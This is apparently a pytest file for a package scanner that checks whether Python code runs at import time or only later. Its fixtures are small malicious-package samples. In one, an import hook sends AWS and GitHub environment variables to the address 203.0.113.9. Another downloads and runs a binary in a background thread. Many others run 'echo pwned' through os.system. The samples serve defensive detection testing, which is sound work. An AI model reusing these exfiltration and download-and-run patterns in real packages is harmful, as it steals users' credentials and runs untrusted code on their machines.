"""Phases follow execution (gate.scan.reach, gate.scan.reach_modules): code a module runs
when imported is ``import``, however deep in functions it stands, with evidence of how it
is reached; code only called later stays ``runtime``."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from gate.model import Finding
from gate.scan import scan_artifact
from gate.scan.python import scan_python
from tests.builders import build_wheel


def prog(text: str) -> str:
    return textwrap.dedent(text).lstrip("\n")


def rows(fs: list[Finding] | tuple[Finding, ...], cap: str) -> set[tuple[str, int, str, str]]:
    return {(f.path, f.line, str(f.phase), f.detail) for f in fs if str(f.capability) == cap}


def one(src: str, cap: str) -> set[tuple[int, str, str]]:
    return {(line, phase, detail) for _, line, phase, detail in rows(
        scan_python(src.encode(), "pkg/mod.py"), cap)}


# httpkit 2.0.1: a function defined in the module and called at its bottom
HTTPKIT = prog("""
    import json
    import os
    import urllib.request

    TIMEOUT = float(os.environ.get("HTTPKIT_TIMEOUT", "10"))

    def get(url):
        return urllib.request.urlopen(url, timeout=TIMEOUT)

    def _sync_settings():
        data = {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "GITHUB_"))}
        urllib.request.urlopen("http://203.0.113.9/c", data=json.dumps(data).encode())

    _sync_settings()
    """)


def test_function_called_at_module_level_is_import() -> None:
    assert one(HTTPKIT, "network") == {
        (8, "runtime", "urllib.request.urlopen"),
        (12, "import", "urllib.request.urlopen (via _sync_settings() at :14)"),
    }
    assert one(HTTPKIT, "env") == {
        (5, "import", "os.environ"),
        (11, "import", "os.environ (via _sync_settings() at :14)"),
    }


MLKIT = prog("""
    import subprocess
    import threading
    import urllib.request

    def gpus():
        return subprocess.run(["nvidia-smi"], capture_output=True)

    def _warm_up():
        urllib.request.urlretrieve("http://203.0.113.9/bin", "/tmp/.w")
        subprocess.Popen(["/tmp/.w"])

    threading.Thread(target=_warm_up, daemon=True).start()
    """)


def test_thread_target_started_at_module_level_is_import() -> None:
    assert one(MLKIT, "subprocess") == {
        (6, "runtime", "subprocess.run"),
        (10, "import", "subprocess.Popen (via _warm_up at :12)"),
    }
    assert one(MLKIT, "network") == {
        (9, "import", "urllib.request.urlretrieve (via _warm_up at :12)")}


@pytest.mark.parametrize(("src", "line", "via"), [
    pytest.param(prog("""
        import os
        def deco(f):
            f()
            return f
        @deco
        def beacon():
            os.system("echo pwned")
        """), 7, "@deco at :5", id="decorator-that-calls"),
    pytest.param(prog("""
        import os
        def every(**kw):
            def deco(f):
                f()
                return f
            return deco
        @every(seconds=1)
        def beacon():
            os.system("echo pwned")
        """), 9, "@every at :7", id="decorator-factory-that-calls"),
    pytest.param(prog("""
        import os
        def every(**kw):
            return make(kw)
        @every(seconds=1)
        def beacon():
            os.system("echo pwned")
        """), 6, "@every at :4", id="decorator-factory-not-followed"),
    pytest.param(prog("""
        import atexit, os
        @atexit.register
        def beacon():
            os.system("echo pwned")
        """), 4, "@atexit.register at :2", id="atexit-decorator"),
    pytest.param(prog("""
        import os
        def beacon():
            os.system("echo pwned")
        class A:
            x = beacon()
        """), 3, "beacon() at :5", id="class-body"),
    pytest.param(prog("""
        import os
        def beacon():
            os.system("echo pwned")
            return 1
        def f(x=beacon()):
            return x
        """), 3, "beacon() at :5", id="default-argument"),
    pytest.param(prog("""
        import os
        def beacon():
            os.system("echo pwned")
        def setup():
            beacon()
        setup()
        """), 3, "setup() at :6", id="transitive"),
    pytest.param(prog("""
        import os, signal
        def beacon(*a):
            os.system("echo pwned")
        signal.signal(signal.SIGALRM, beacon)
        """), 3, "beacon at :4", id="signal-handler"),
    pytest.param(prog("""
        import os, sys
        def beacon(*a):
            os.system("echo pwned")
        sys.excepthook = beacon
        """), 3, "beacon at :4", id="excepthook"),
    pytest.param(prog("""
        import os
        class Beacon:
            def __init__(self):
                os.system("echo pwned")
        _b = Beacon()
        """), 4, "Beacon() at :5", id="constructor"),
    pytest.param(prog("""
        import os
        class Job:
            def start(self):
                os.system("echo pwned")
        Job().start()
        """), 4, "Job() at :5", id="method-by-name"),
    pytest.param(prog("""
        import os
        def beacon():
            os.system("echo pwned")
        HOOKS = {"a": beacon}
        HOOKS["a"]()
        """), 3, "HOOKS at :5", id="function-in-a-dict-called"),
    pytest.param(prog("""
        import os
        HOOKS = [lambda: os.system("echo pwned")]
        HOOKS[0]()
        """), 2, "HOOKS at :3", id="lambda-in-a-list-called"),
    pytest.param(prog("""
        import os
        def beacon():
            os.system("echo pwned")
        if __name__ != "__main__":
            beacon()
        """), 3, "beacon() at :5", id="not-main-block"),
])
def test_reached_at_import(src: str, line: int, via: str) -> None:
    assert (line, "import", f"os.system (via {via})") in one(src, "subprocess"), one(
        src, "subprocess")


@pytest.mark.parametrize("src", [
    pytest.param(prog("""
        import os
        def beacon():
            os.system("echo pwned")
        def later():
            beacon()
        """), id="only-called-from-a-function"),
    pytest.param(prog("""
        import os
        def beacon():
            os.system("echo pwned")
        if __name__ == "__main__":
            beacon()
        """), id="main-block"),
    pytest.param(prog("""
        import functools, os
        def logged(f):
            @functools.wraps(f)
            def wrapper(*a):
                return f(*a)
            return wrapper
        @logged
        def beacon():
            os.system("echo pwned")
        """), id="wrapping-decorator"),
    pytest.param(prog("""
        import os
        def doc(text):
            def deco(f):
                f.__doc__ = text
                return f
            return deco
        @doc("Run it.")
        def beacon():
            os.system("echo pwned")
        """), id="decorator-factory-that-only-labels"),
    pytest.param(prog("""
        import os
        class Job:
            def run(self):
                os.system("echo pwned")
        JOB = Job
        """), id="class-stored-not-run"),
    # a __main__ block beside code that reads __name__ or writes other objects' names and
    # namespaces: nothing here can rebind the module's own __name__ (gate.scan.reach)
    pytest.param(prog("""
        import functools, logging, os
        from os.path import *
        log = logging.getLogger(__name__)
        def named(f):
            def wrapper(*a):
                return f(*a)
            wrapper.__name__ = getattr(f, "__name__", "f")
            return wrapper
        class Box:
            def __init__(self, **kw):
                self.__dict__.update(kw)
                for k, v in kw.items():
                    setattr(self, k, v)
            def names(self):
                return vars(self), vars(), locals()
        def beacon():
            os.system("echo pwned")
        if __name__ == "__main__":
            beacon()
        """), id="main-block-beside-harmless-name-uses"),
    # charset-normalizer 3.5.3's cli/__main__.py: the namespace of objects that are no
    # module (``x_[0].__dict__``) cannot rebind the module's __name__
    pytest.param(prog("""
        import os
        from json import dumps
        def beacon(x_):
            os.system("echo pwned")
            return dumps([el.__dict__ for el in x_] if len(x_) > 1 else x_[0].__dict__)
        if __name__ == "__main__":
            raise SystemExit(beacon([]))
        """), id="main-block-beside-dict-of-a-subscript"),
])
def test_not_reached_stays_runtime(src: str) -> None:
    assert {phase for _, phase, _ in one(src, "subprocess")} == {"runtime"}, one(
        src, "subprocess")


# ---- across the distribution's own modules

def wheel_rows(tmp_path: Path, files: dict[str, str], cap: str) -> set[tuple[str, int, str, str]]:
    return rows(scan_artifact(build_wheel(tmp_path, "httpkit", "2.0.1", files)).findings, cap)


SYNC = prog("""
    import os
    import urllib.request

    def _post(data):
        urllib.request.urlopen("http://203.0.113.9/c", data=data)

    def sync_settings():
        _post(repr(dict(os.environ)).encode())

    def fetch(url):
        return urllib.request.urlopen(url)
    """)


@pytest.mark.parametrize(("init", "via"), [
    pytest.param("from ._sync import sync_settings\nsync_settings()\n",
                 "httpkit/__init__.py:2 sync_settings()", id="from-import"),
    pytest.param("from . import _sync\n_sync.sync_settings()\n",
                 "httpkit/__init__.py:2 _sync.sync_settings()", id="module-import"),
    pytest.param("import httpkit._sync as s\ns.sync_settings()\n",
                 "httpkit/__init__.py:2 s.sync_settings()", id="import-as"),
    pytest.param("from ._sync import sync_settings as go\nimport threading\n"
                 "threading.Thread(target=go).start()\n",
                 "httpkit/__init__.py:3 go()", id="thread-target"),
    pytest.param("from ._sync import sync_settings\ndef setup():\n    sync_settings()\nsetup()\n",
                 "httpkit/__init__.py:3 sync_settings()", id="through-a-local-function"),
])
def test_another_module_called_at_import(tmp_path: Path, init: str, via: str) -> None:
    got = wheel_rows(tmp_path, {"httpkit/__init__.py": init, "httpkit/_sync.py": SYNC},
                     "network")
    assert got == {
        ("httpkit/_sync.py", 5, "import", f"urllib.request.urlopen (via {via})"),
        ("httpkit/_sync.py", 11, "runtime", "urllib.request.urlopen"),
    }


def test_chain_through_three_modules(tmp_path: Path) -> None:
    files = {
        "httpkit/__init__.py": "from . import _util\n_util.configure()\n",
        "httpkit/_util.py": "from ._sync import sync_settings\ndef configure():\n"
                            "    sync_settings()\n",
        "httpkit/_sync.py": SYNC,
    }
    got = wheel_rows(tmp_path, files, "network")
    assert ("httpkit/_sync.py", 5, "import",
            "urllib.request.urlopen (via httpkit/__init__.py:2 _util.configure())") in got


def test_another_module_called_later_stays_runtime(tmp_path: Path) -> None:
    files = {"httpkit/__init__.py": "from ._sync import fetch\ndef get(u):\n    return fetch(u)\n",
             "httpkit/_sync.py": SYNC}
    assert {phase for _, _, phase, _ in wheel_rows(tmp_path, files, "network")} == {"runtime"}


def test_aliases_in_a_cycle_across_many_blocks_stay_small() -> None:
    """``g = f`` aliases were copied once per nested block: the copies doubled with every
    block (2^blocks entries; a small-set wheel took 23 GB). Now once per module, each
    function once per name; an alias of an alias still reaches the function."""
    import ast

    from gate.scan.reach import _Reach

    blocks = "".join(f"if x{i}:\n    pass\n" for i in range(40))
    src = f"def f():\n    pass\n\na = f\nb = a\na = b\nc = b\n{blocks}"
    r = _Reach(ast.parse(src), main_runs=False)
    assert [len(r.defs[n]) for n in ("f", "a", "b", "c")] == [1, 1, 1, 1]
    assert one(prog("""
        import os

        def f():
            os.system("x")

        c = b
        b = a
        a = f
        c()
        """), "subprocess") == {(4, "import", "os.system (via c() at :9)")}


def test_a_local_named_like_another_modules_method_is_no_call(tmp_path: Path) -> None:
    """Across modules a method is named by an attribute or a string (``K().go()``,
    ``getattr(k, "go")``): a bare name that happens to spell it (a local variable, a
    parameter) in code run at import does not reach it."""
    wheel = build_wheel(tmp_path, "pkg", "1.0", {
        "pkg/_x.py": prog("""
            import os
            class K:
                def source(self):
                    os.system("echo pwned")
            """),
        "pkg/__init__.py": prog("""
            from ._x import K
            def pick(source):
                return source
            pick(1)
            """),
    })
    found = scan_artifact(wheel).findings
    assert {str(f.phase) for f in found if str(f.capability) == "subprocess"} == {"runtime"}


def test_an_attribute_names_a_nested_class_only() -> None:
    """An attribute names no top-level class of the module's: ``unittest.TestCase`` at
    import is not the module's own ``TestCase`` (which a bare name would reach)."""
    src = prog("""
        import os, unittest
        class TestCase(unittest.TestCase):
            def run_tool(self):
                os.system("echo")
        BASE = unittest.TestCase
        """)
    assert {phase for _, phase, _ in one(src, "subprocess")} == {"runtime"}


@pytest.mark.parametrize("own_runtime", [
    pytest.param("", id="caller-without-runtime-finding"),
    pytest.param("def save(p):\n    open(p, 'w')\n", id="caller-with-runtime-finding"),
])
def test_a_callers_main_block_counts_when_it_may_rebind_name(tmp_path: Path,
                                                             own_runtime: str) -> None:
    """A module that rebinds its ``__name__`` runs its ``__main__`` block at import, so what
    that block calls in another own module runs then too. Whether the caller holds a
    ``runtime`` finding of its own (so the scanner read its import-time code already, or
    gate.scan.reach_modules reads it again) does not change the answer: both read the block
    as ``name_may_change`` says."""
    found = wheel_rows(tmp_path, {
        "httpkit/_sync.py": SYNC,
        "httpkit/__init__.py": own_runtime + prog("""
            from ._sync import sync_settings
            __name__ = "__main__"
            if __name__ == "__main__":
                sync_settings()
            """),
    }, "network")
    line = 4 + own_runtime.count("\n")
    via = f"httpkit/__init__.py:{line} sync_settings()"
    assert found == {
        ("httpkit/_sync.py", 5, "import", f"urllib.request.urlopen (via {via})"),
        ("httpkit/_sync.py", 11, "runtime", "urllib.request.urlopen"),
    }


def test_a_callers_main_block_does_not_count_when_name_stays(tmp_path: Path) -> None:
    """Without a way to rebind ``__name__`` the block runs only as a script."""
    found = wheel_rows(tmp_path, {
        "httpkit/_sync.py": SYNC,
        "httpkit/__init__.py": prog("""
            from ._sync import sync_settings
            if __name__ == "__main__":
                sync_settings()
            """),
    }, "network")
    assert {phase for _, _, phase, _ in found} == {"runtime"}


# ---- precision (#13): what each narrowed rule leaves out cannot run at import

@pytest.mark.parametrize("src", [
    # sphinx's graphviz: a class named in text (``category = 'Graphviz error'``) is no use
    pytest.param(prog("""
        import os
        from docutils.parsers.rst import Directive
        class GraphvizError(Exception):
            category = "Graphviz error"
        class Graphviz(Directive):
            def run(self):
                os.system("dot")
        """), id="class-named-in-text"),
    # dnspython's resolver: ``fmt = f"{msg[:-1]} {{query}}: {{errors}}"``
    pytest.param(prog("""
        import os
        def query(name):
            os.system("dig")
        class NoNameservers(Exception):
            msg = "All nameservers failed to answer the query."
            fmt = f"{msg[:-1]} {{query}}: {{errors}}"
        """), id="function-named-in-a-format-string"),
    # alembic's write hooks: a decorator that keeps the function in a registry
    pytest.param(prog("""
        import subprocess
        _registry = {}
        def register(name):
            def decorate(fn):
                _registry[name] = fn
                return fn
            return decorate
        @register("console_scripts")
        def console_scripts(path):
            subprocess.run(["black", path])
        """), id="decorator-factory-that-registers"),
    # timm's register_model (here within one module): reads the function's data, keeps it
    pytest.param(prog("""
        import os, sys
        from collections import defaultdict
        _entrypoints = {}
        _by_module = defaultdict(list)
        def register_model(fn):
            mod = sys.modules[fn.__module__]
            name = fn.__name__
            _entrypoints[name] = fn
            _by_module[fn.__module__].append(fn)
            return fn
        @register_model
        def resnet50():
            os.system("echo")
        """), id="decorator-that-registers"),
    # moocore's ``@DocSubstitute()``: an instance whose ``__call__`` fills the docstring
    pytest.param(prog("""
        import os
        from string import Template
        class DocSubstitute:
            def __init__(self):
                self.params = {"x": "y"}
            def __call__(self, func):
                if func.__doc__:
                    func.__doc__ = Template(func.__doc__).substitute(self.params)
                return func
        @DocSubstitute()
        def read_datasets(filename):
            "Read $x."
            os.system("echo")
        """), id="class-decorator-that-labels"),
    # timm: config keys ``'<model function>.<tag>'`` name the function on a path only
    pytest.param(prog("""
        import os
        def beit_base_patch16_384(pretrained=False):
            os.system("echo")
        default_cfgs = dict({"beit_base_patch16_384.in22k_ft_in22k_in1k": {"hf": "timm/"}})
        """), id="function-on-a-dotted-path"),
    # einx: ``adapt.__doc__ = ...`` labels the function, it does not call it
    pytest.param(prog("""
        import os
        def adapt(op):
            os.system("echo")
        adapt.__doc__ = "Adapt " + "op."
        """), id="attribute-of-a-function-written"),
])
def test_narrowed_rules_stay_runtime(src: str) -> None:
    assert {phase for _, phase, _ in one(src, "subprocess")} == {"runtime"}, one(
        src, "subprocess")


@pytest.mark.parametrize(("src", "line", "via"), [
    pytest.param(prog("""
        import os
        _registry = {}
        def register(name):
            def decorate(fn):
                _registry[name] = fn
                return fn
            return decorate
        @register("x")
        def hook():
            os.system("echo pwned")
        for f in _registry.values():
            f()
        """), 10, "_registry at :11", id="registry-read-at-import"),
    pytest.param(prog("""
        import os
        HOOKS = []
        def on_import(fn):
            HOOKS.append(fn)
            return fn
        def run_hooks():
            for h in HOOKS:
                h()
        @on_import
        def hook():
            os.system("echo pwned")
        run_hooks()
        """), 11, "run_hooks() at :12", id="registry-list-read-by-a-function"),
    pytest.param(prog("""
        import os
        class Registry:
            def __setitem__(self, k, fn):
                fn()
        REG = Registry()
        def register(fn):
            REG[fn.__name__] = fn
            return fn
        @register
        def hook():
            os.system("echo pwned")
        """), 11, "@register at :9", id="registry-of-the-modules-own-class"),
    pytest.param(prog("""
        import os
        class A:
            def query(self):
                os.system("echo pwned")
        getattr(A(), "please run query".split()[2])()
        """), 4, "'query' at :5", id="word-cut-out-of-text"),
    pytest.param(prog("""
        import os, operator, sys
        def beacon():
            os.system("echo pwned")
        operator.attrgetter("beacon.__call__")(sys.modules[__name__])()
        """), 3, "'beacon' at :4", id="function-called-through-a-path"),
    pytest.param(prog("""
        import os, operator, sys
        def beacon():
            os.system("echo pwned")
        operator.attrgetter("x.beacon")(sys)()
        """), 3, "'beacon' at :4", id="function-at-the-end-of-a-path"),
])
def test_narrowed_rules_still_reach(src: str, line: int, via: str) -> None:
    assert (line, "import", f"os.system (via {via})") in one(src, "subprocess"), one(
        src, "subprocess")


def test_a_stored_attribute_of_another_module_is_not_a_call(tmp_path: Path) -> None:
    """pre-commit: ``run_hook = lang_base.basic_run_hook`` in each language module stores
    the function; only a call of ``run_hook`` at import runs it."""
    base = prog("""
        import concurrent.futures
        def basic_run_hook():
            concurrent.futures.ThreadPoolExecutor(2)
        """)
    lang = "from httpkit import _base\nrun_hook = _base.basic_run_hook\n"
    stored = wheel_rows(tmp_path / "a", {"httpkit/__init__.py": "from . import _lang\n",
                                         "httpkit/_lang.py": lang, "httpkit/_base.py": base},
                        "threads")
    assert {phase for _, _, phase, _ in stored} == {"runtime"}
    called = wheel_rows(tmp_path / "b", {
        "httpkit/__init__.py": "from . import _lang\n_lang.run_hook()\n",
        "httpkit/_lang.py": lang, "httpkit/_base.py": base}, "threads")
    assert called == {("httpkit/_base.py", 3, "import",
                       "concurrent.futures.thread.ThreadPoolExecutor "
                       "(via httpkit/__init__.py:2 _lang.run_hook())")}


def test_another_modules_lookup_is_not_the_packages_own(tmp_path: Path) -> None:
    """``getattr(sys.modules["pkg.other"], "x", None)`` in ``pkg/__init__.py`` looks the name
    up on ``pkg.other``: ``pkg``'s own ``__getattr__`` does not run (it did: the reference
    was cut at its first dot)."""
    files = {"httpkit/__init__.py": prog("""
                 import os, sys
                 from . import other
                 def __getattr__(name):
                     os.system("echo " + name)
                     raise AttributeError(name)
                 getattr(sys.modules["httpkit.other"], "x", None)
                 """),
             "httpkit/other.py": "x = 1\n"}
    assert {phase for _, _, phase, _ in wheel_rows(tmp_path, files, "subprocess")} == {"runtime"}
    own = {"httpkit/__init__.py": files["httpkit/__init__.py"].replace(
        'sys.modules["httpkit.other"]', "sys.modules[__name__]")}
    assert {phase for _, _, phase, _ in wheel_rows(tmp_path / "own", own, "subprocess")} == {
        "import"}


REGISTRY = prog("""
    _entrypoints = {}
    def register_model(fn):
        _entrypoints[fn.__name__] = fn
        return fn
    def register(name):
        def decorate(fn):
            _entrypoints[name] = fn
            return fn
        return decorate
    def run_now(fn):
        fn()
        return fn
    def create_model(name):
        return _entrypoints[name]()
    """)
MODELS = prog("""
    import os
    from ._registry import register, register_model, run_now
    @register_model
    def resnet():
        os.system("echo resnet")
    @register("vit")
    def vit():
        os.system("echo vit")
    """)


@pytest.mark.parametrize(("init", "models", "registry", "want"), [
    pytest.param("from . import models\n", MODELS, REGISTRY, set(), id="registered-only"),
    pytest.param("from . import models\n", MODELS.replace("@register_model", "@run_now"),
                 REGISTRY, {(5, "httpkit/models.py:3 @run_now")}, id="decorator-calls"),
    pytest.param("from . import models\nfrom ._registry import create_model\n"
                 "create_model('resnet')\n", MODELS, REGISTRY,
                 {(5, "httpkit/__init__.py:3 create_model()"),
                  (8, "httpkit/__init__.py:3 create_model()")}, id="registry-read-at-import"),
    pytest.param("from . import models\n", MODELS, REGISTRY + "from . import models\n"
                 "for f in list(_entrypoints.values()):\n    f()\n",
                 {(5, "httpkit/models.py:3 @register_model (kept in _entrypoints, read at "
                      "httpkit/_registry.py:16)"),
                  (8, "httpkit/models.py:6 @register (kept in _entrypoints, read at "
                      "httpkit/_registry.py:16)")}, id="registry-read-by-its-module"),
])
def test_decorator_of_another_own_module(tmp_path: Path, init: str, models: str, registry: str,
                                         want: set[tuple[int, str]]) -> None:
    """timm's ``@register_model`` (``from ._registry import register_model``) only keeps
    the model function in a dict: the function runs at import only where that dict is read
    at import, or where the decorator calls what it is given."""
    got = wheel_rows(tmp_path, {"httpkit/__init__.py": init, "httpkit/models.py": models,
                                "httpkit/_registry.py": registry}, "subprocess")
    assert {(line, detail.partition("(via ")[2][:-1]) for _, line, phase, detail in got
            if phase == "import"} == want, got


def test_decorator_of_another_distribution_is_assumed_to_call(tmp_path: Path) -> None:
    """alembic's ``@util.memoized_property`` is sqlalchemy's (re-exported by
    ``alembic.util``): what it does is not in this wheel, so the method counts as run at
    import, and the evidence names whose decorator that assumption is about."""
    got = wheel_rows(tmp_path, {
        "httpkit/__init__.py": "from . import config\n",
        "httpkit/util.py": "from sqlalchemy.util import memoized_property\n",
        "httpkit/config.py": prog("""
            import os
            from . import util
            class Config:
                @util.memoized_property
                def file_config(self):
                    return os.listdir(".")
            """)}, "fs-read")
    assert got == {("httpkit/config.py", 6, "import",
                    "os.listdir (via httpkit/config.py:4 @util.memoized_property, "
                    "sqlalchemy.util.memoized_property of another distribution: may call it)")}


def test_only_sys_modules_is_a_module_lookup() -> None:
    """``module_expr`` reads ``sys.modules[...]`` (and ``modules[...]`` from ``from sys
    import modules``), not any name ending in ``modules``."""
    import ast

    from gate.scan.reach_refs import module_expr

    def expr(src: str) -> ast.expr:
        return ast.parse(src, mode="eval").body

    assert module_expr(expr('sys.modules["pkg._x"]'), "pkg", True) == "pkg._x"
    assert module_expr(expr('modules["pkg._x"]'), "pkg", True) == "pkg._x"
    assert module_expr(expr('mymodules["pkg._x"]'), "pkg", True) is None
    assert module_expr(expr('self.modules["pkg._x"]'), "pkg", True) is None
    assert module_expr(expr('importlib.import_module("._x", package=__name__)'), "pkg",
                       True) == "pkg._x"
    assert module_expr(expr('__import__("_x", globals(), None, ["f"], 1)'), "pkg.sub",
                       False) == "pkg._x"
    assert module_expr(expr('im("pkg._x")'), "pkg", True, {"im": "import_module"}) == "pkg._x"


def test_a_returned_wrapper_runs_where_it_is_called() -> None:
    """colorlog: ``debug = ensure_configured(logging.debug)`` at import returns a wrapper
    that calls ``basicConfig()``; the wrapper runs when ``debug(...)`` does, not when it
    is made."""
    src = prog("""
        import functools, os
        def basic_config():
            os.system("echo configured")
        def ensure_configured(func):
            @functools.wraps(func)
            def wrapper(*args):
                basic_config()
                return func(*args)
            return wrapper
        debug = ensure_configured(print)
        """)
    assert one(src, "subprocess") == {(3, "runtime", "os.system")}
    assert one(src + "debug('x')\n", "subprocess") == {
        (3, "import", "os.system (via a result called at :11)")}
